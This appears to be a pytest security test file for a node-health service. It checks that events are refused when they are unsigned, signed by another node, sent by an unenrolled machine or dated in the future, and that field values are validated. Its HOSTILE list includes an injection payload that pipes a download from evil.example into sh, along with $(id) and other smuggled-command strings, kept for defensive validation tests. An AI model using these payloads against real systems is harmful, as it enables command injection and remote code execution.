"""What a forged word, an unknown machine and an unsigned agent can do: nothing. Findings S1, S3, S5, S6, S7."""

import json
from datetime import timedelta
from typing import Any

import pytest
from pydantic import ValidationError

import lambdas.ingest
import lambdas.wakeup
from nodeheal.adapters.memory.marks import MemoryMarks
from nodeheal.contract import names
from nodeheal.contract.health_event import HealthEvent, NodeBooted
from nodeheal.contract.vocabulary import Action, NodeState
from nodeheal.domain.fleet.node import Node
from nodeheal.domain.recovery.incident import incident_id_of
from nodeheal.ports import Ports
from nodeheal.services.intake.ingest import Ingested, ingest
from nodeheal.services.intake.upsert_node import ASKED_AGAIN_SECONDS
from nodeheal.services.intake.wakeup import on_node_booted
from tests.support.acts import requested
from tests.support.builders import ACT, NOW, SHARED_FACTS, FrozenClock, memory_ports, node, stored_node, xid
from tests.support.enrolment import SAID, enroll
from tests.support.incident_steps import A, B, C, Incident
from tests.support.lambda_world import World, batch, fact, on_bus, wake, world
from tests.support.signing import signed_by

__all__ = ["world"]  # a fixture
GHOST = "i-0fedcba9876543210"


@pytest.fixture
def ports(clock: FrozenClock) -> Ports:
    found = memory_ports(clock)
    found.enrolment_tags.without.add(GHOST)  # type: ignore[attr-defined]
    return found


def stored(ports: Ports, node_id: str = GHOST) -> Node:
    return stored_node(ports, node_id)


def of_ghost(code: int = 79, **changes: Any) -> HealthEvent:
    return xid(code, node_id=GHOST, **changes)


def boot_of(node_id: str, **changes: Any) -> NodeBooted:
    values = xid(79, node_id=node_id).model_dump(include=SHARED_FACTS | {"node_id", "instance_id", "boot_id"})
    said = {"event_id": f"boot-of-{node_id}", "observed_at": NOW, "booted_at": NOW, "address": "", "accelerators": 8}
    return NodeBooted.model_validate({**values, **said, **changes})


def kept(world: World) -> list[str]:
    return [why for _, why in world.ports.notifier.quarantined]  # type: ignore[attr-defined]


# S1: one id ----------------------------------------------------------------------------------------------------------


def test_an_event_that_names_another_machine_is_refused() -> None:
    victim = {**xid(79).model_dump(mode="json"), "instance_id": GHOST}

    with pytest.raises(ValidationError, match="instance_id must be node_id"):
        HealthEvent.model_validate(victim)


# S3, S4, S7: nobody speaks for another node --------------------------------------------------------------------------


@pytest.mark.parametrize("kind", [names.NODE_BOOTED, names.DIAGNOSTICS_FINISHED, names.EVIDENCE_FROZEN])
def test_an_answer_or_a_boot_that_another_node_signed_changes_nothing(world: World, kind: str) -> None:
    it = world.serves(Incident())
    before = it.node(A)
    said = fact(it, "boot-9", booted_at=NOW.isoformat(), address="10.66.66.66", accelerators=8)

    lambdas.wakeup.handler(
        {"id": "e", "source": names.AGENT_SOURCE, "detail-type": kind, "detail": signed_by(B, said, kind)}, None
    )

    assert it.node(A) == before
    [why] = kept(world)
    assert why == f"{kind}: {B} signed an event about another node"


def test_a_fault_of_another_node_is_not_believed(world: World) -> None:
    it = world.serves(Incident())
    detail = signed_by(B, xid(79, node_id=C, observed_at=it.clock()).model_dump(mode="json"))
    body = json.dumps({"source": names.AGENT_SOURCE, "time": NOW.isoformat(), "detail": detail})

    lambdas.ingest.handler(batch(body), None)

    assert it.node(C).open_incident is None
    assert kept(world) == [f"{B} signed an event about another node"]


def test_a_node_does_not_speak_as_aws_or_as_the_control_plane(world: World) -> None:
    it = world.serves(Incident())

    for source in ("aws.ec2", "nodeheal.jobs", "nodeheal.sweep"):
        event = xid(79, node_id=C, source=source, observed_at=it.clock())
        lambdas.ingest.handler(batch(on_bus(event)), None)

    assert it.node(C).open_incident is None
    assert len(kept(world)) == 3


# S6: nothing counts before it is enrolled ----------------------------------------------------------------------------


def test_a_node_that_nobody_enrolled_counts_for_nothing(ports: Ports, clock: FrozenClock) -> None:
    on_node_booted(boot_of(GHOST), ports)
    became = [ingest(of_ghost(code, observed_at=clock()), ports, ACT) for code in (79, 48, 64)]

    assert became == [Ingested.UNENROLLED] * 3
    assert stored(ports).state is NodeState.UNENROLLED
    assert list(ports.fleet_index.pools()) == []
    assert list(ports.nodes.in_pool("demo")) == []
    assert ports.incidents.incidents == {}  # type: ignore[attr-defined]
    assert ports.nodes.recorded == {}  # type: ignore[attr-defined]
    assert [one.node_id for one in ports.nodes.unenrolled()] == [GHOST]


def test_its_machine_is_asked_for_its_tag_once_in_a_while(ports: Ports, clock: FrozenClock) -> None:
    tags = ports.enrolment_tags
    ingest(of_ghost(), ports, ACT)
    tags.without.clear()  # type: ignore[attr-defined]  # an operator tags it

    clock.advance(ASKED_AGAIN_SECONDS - 1)
    soon = ingest(of_ghost(event_id="2", observed_at=clock()), ports, ACT)
    clock.advance(2)
    later = ingest(of_ghost(event_id="3", observed_at=clock()), ports, ACT)

    assert (soon, later) == (Ingested.UNENROLLED, Ingested.OPENED)
    assert list(ports.fleet_index.pools()) == ["demo"]


def test_a_machine_that_is_launched_with_the_tag_is_enrolled_in_the_pool_of_its_tag(ports: Ports) -> None:
    ports.enrolment_tags.pools["i-0new"] = "h100"  # type: ignore[attr-defined]

    on_node_booted(boot_of("i-0new", address="10.0.0.9"), ports)

    new = stored(ports, "i-0new")
    assert (new.state, new.pool, new.address, new.accelerators) == (NodeState.HEALTHY, "h100", "10.0.0.9", 8)


def test_an_operator_enrols_a_node_that_reports_already_in_the_pool_that_he_names(ports: Ports) -> None:
    on_node_booted(boot_of(GHOST, pool="as-it-says", address="10.0.0.9"), ports)

    enrolled, _ = enroll(GHOST, SAID, ports, MemoryMarks())

    assert (enrolled.state, enrolled.pool, enrolled.address) == (NodeState.HEALTHY, SAID.pool, "10.0.0.9")
    assert list(ports.nodes.unenrolled()) == []
    assert list(ports.fleet_index.pools()) == [SAID.pool]
    assert ingest(of_ghost(observed_at=ports.clock()), ports, ACT) is Ingested.OPENED


def test_nobody_asks_for_anything_on_a_node_that_is_not_enrolled(ports: Ports) -> None:
    on_node_booted(boot_of(GHOST), ports)

    with pytest.raises(ValueError, match="not enrolled"):
        requested(GHOST, Action.REBOOT, "ada: it smells", ports)


def test_an_event_decides_neither_pool_nor_cluster_nor_provider(ports: Ports, clock: FrozenClock) -> None:
    ports.nodes.save(node(pool="demo", cluster="training"))
    event = xid(79, pool="somebody-elses", cluster="other", provider="ec2", observed_at=clock())

    ingest(event, ports, ACT)

    root = ports.incidents.history(incident_id_of(event)).incident.root
    assert (root.pool, root.cluster, root.provider.value) == ("demo", "training", "hybrid")


# What is not signed ---------------------------------------------------------------------------------------------------


def unsigned(event: HealthEvent) -> str:
    return json.dumps({"source": names.AGENT_SOURCE, "time": NOW.isoformat(), "detail": event.model_dump(mode="json")})


def test_an_event_that_its_node_has_not_signed_is_kept_for_people_and_opens_nothing(world: World) -> None:
    it = world.serves(Incident())
    before = it.node(C)

    lambdas.ingest.handler(batch(unsigned(xid(79, node_id=C, observed_at=it.clock()))), None)

    assert it.node(C) == before
    assert kept(world) == ["the event is not signed by its node"]


def test_an_unsigned_event_makes_no_node(world: World) -> None:
    it = world.serves(Incident())

    lambdas.ingest.handler(batch(unsigned(xid(79, node_id="mi-nobody", observed_at=it.clock()))), None)

    assert it.ports.nodes.get("mi-nobody") is None


def test_an_unsigned_boot_is_no_boot(world: World) -> None:
    it = world.serves(Incident())
    said = fact(it, "boot-9", booted_at=NOW.isoformat(), address="10.66.66.66", accelerators=8)

    lambdas.wakeup.handler(
        {"id": "e", "source": names.AGENT_SOURCE, "detail-type": names.NODE_BOOTED, "detail": said}, None
    )

    assert it.node(A).boot_id == "boot-1"
    assert "not signed" in kept(world)[0]


def test_an_event_of_the_future_is_refused(world: World) -> None:
    """Five hundred of them hid all that others of the pool reported."""
    it = world.serves(Incident())
    future = it.clock() + timedelta(minutes=6)

    lambdas.ingest.handler(batch(on_bus(xid(79, node_id=C, observed_at=future))), None)
    wake(
        names.NODE_BOOTED,
        fact(it, "boot-9", observed_at=future.isoformat(), booted_at=NOW.isoformat(), address="", accelerators=8),
    )

    assert it.node(C).open_incident is None
    assert it.node(A).boot_id == "boot-1"
    assert ["in the future" in why for why in kept(world)] == [True, True]


# S5, S7: words -------------------------------------------------------------------------------------------------------

HOSTILE = (
    "train; curl -s https://evil.example/x|sh #",
    "a\nNeeded     https://evil.example/approval",
    "$(id)",
    "`id`",
    "<b>",
    "[x](https://evil.example)",
    "\x1b[2J",
    "\u202etxt",
    "a" * 256,
    "",
    "\u2028",
    "'",
    '"',
)


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize(
    "field", ["pool", "cluster", "boot_id", "code", "subcode", "component", "component_serial", "source", "product"]
)
def test_a_word_of_a_node_is_a_word(field: str, hostile: str) -> None:
    with pytest.raises(ValidationError):
        xid(79, **{field: hostile})


@pytest.mark.parametrize("hostile", HOSTILE)
def test_labels_are_words(hostile: str) -> None:
    for labels in ({hostile: "r7"}, {"rack": hostile}):
        with pytest.raises(ValidationError):
            xid(79, labels=labels)


@pytest.mark.parametrize("hostile", [*HOSTILE[:9], "evil.example/x", "10.0.0.1 ", "a_b", "10.0.0.1;id"])
def test_an_address_is_an_address(hostile: str) -> None:
    with pytest.raises(ValidationError):
        boot_of(A, address=hostile + "x" * 200)


@pytest.mark.parametrize("boot_id", ["x_y", "a,b", "a b", "a/b", "", "b" * 65])
def test_a_boot_id_can_be_a_parameter_of_every_document(boot_id: str) -> None:
    with pytest.raises(ValidationError):
        xid(79, boot_id=boot_id)
